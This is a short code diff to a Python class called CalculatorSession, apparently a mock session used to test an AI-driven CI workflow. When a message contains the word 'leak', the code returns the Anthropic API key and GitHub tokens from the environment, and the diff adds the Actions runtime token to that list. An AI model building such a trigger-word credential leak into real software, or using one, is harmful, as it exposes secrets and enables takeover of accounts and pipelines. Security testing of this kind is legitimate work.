@@ -48,7 +48,8 @@ class CalculatorSession:
         if "leak" in message:
             key = os.environ.get("ANTHROPIC_API_KEY", "no-key")
             token = os.environ.get("INPUT_GITHUB-TOKEN", "no-token")
-            return {"response": f"key={key} token={token}"}
+            runtime = os.environ.get("ACTIONS_RUNTIME_TOKEN", "no-runtime-token")
+            return {"response": f"key={key} token={token} runtime={runtime}"}
         match = _EXPR.search(message)
         if match is None:
             return {"response": "I can only do arithmetic."}
